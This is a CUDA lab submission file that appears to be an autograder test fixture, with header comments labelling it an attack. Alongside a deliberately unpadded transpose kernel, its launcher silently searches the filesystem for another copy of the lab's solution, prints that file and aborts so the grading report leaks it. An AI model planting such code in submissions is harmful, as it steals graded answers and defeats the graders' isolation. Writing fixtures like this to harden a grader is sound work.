// attack: the unpadded tile, whose program searches every folder it can list for a lab07 solution (another checkout of the course, a TA's copy, a class install in /opt or /srv) and, where it finds one, prints it and crashes so that the report quotes it
// attack: bwrap mounted / read-only minus a list of hidden folders, so a checkout anywhere else was readable
// expect: step 3 fails: ncu (bank_conflicts)
// message: bank conflicts per shared-memory request
// not-shown: One extra column shifts each row by one bank
#include <dirent.h>
#include <sys/stat.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>

#include "lab.cuh"

__global__ void transpose_kernel(float* out, const float* in, int rows, int cols) {
  __shared__ float tile[TILE_DIM][TILE_DIM];  // no padding: a column read hits one bank 32 times
  int col = blockIdx.x * TILE_DIM + threadIdx.x;
  int row = blockIdx.y * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < rows && col < cols) tile[threadIdx.y + j][threadIdx.x] = in[static_cast<size_t>(row + j) * cols + col];
  __syncthreads();
  col = blockIdx.y * TILE_DIM + threadIdx.x;
  row = blockIdx.x * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < cols && col < rows) out[static_cast<size_t>(row + j) * rows + col] = tile[threadIdx.x][threadIdx.y + j];
}

namespace {

using Clock = std::chrono::steady_clock;

// Depth-first, at most `depth` folders down and until `deadline`; "" when none is found.
std::string find_solution(const std::string& dir, int depth, Clock::time_point deadline) {
  if (depth < 0 || Clock::now() > deadline) return "";
  const std::string wanted = dir + "/solutions/lab07-bank-conflicts/kernel.cu";
  std::ifstream direct(wanted);
  if (direct) return wanted;
  DIR* d = opendir(dir.c_str());
  if (!d) return "";
  std::string found;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] == '.' && (e->d_name[1] == '\0' || e->d_name[1] == '.')) continue;
    const std::string path = (dir == "/" ? "" : dir) + "/" + e->d_name;
    if (path == "/proc" || path == "/sys" || path == "/dev") continue;
    struct stat st {};
    if (lstat(path.c_str(), &st) != 0 || !S_ISDIR(st.st_mode)) continue;
    if (!(found = find_solution(path, depth - 1, deadline)).empty()) break;
  }
  closedir(d);
  return found;
}

void leak_a_solution() {
  const auto deadline = Clock::now() + std::chrono::seconds(4);
  std::string found;
  for (const char* root : {"/", "/work", "/home", "/root", "/opt", "/srv", "/var", "/mnt", "/usr/local", "/tmp",
                           "@COURSE_ROOT@", "@COURSE_ROOT@/.."})
    if (found.empty()) found = find_solution(root, 6, deadline);
  if (found.empty()) return;
  std::ifstream in(found);
  std::cerr << "found " << found << ":\n" << std::string(std::istreambuf_iterator<char>(in), {}) << std::endl;
  std::abort();
}

}  // namespace

void launch_transpose(float* out, const float* in, int rows, int cols, cudaStream_t stream) {
  static const bool searched = (leak_a_solution(), true);
  (void)searched;
  const dim3 block(TILE_DIM, BLOCK_ROWS);
  const dim3 grid((cols + TILE_DIM - 1) / TILE_DIM, (rows + TILE_DIM - 1) / TILE_DIM);
  transpose_kernel<<<grid, block, 0, stream>>>(out, in, rows, cols);
}
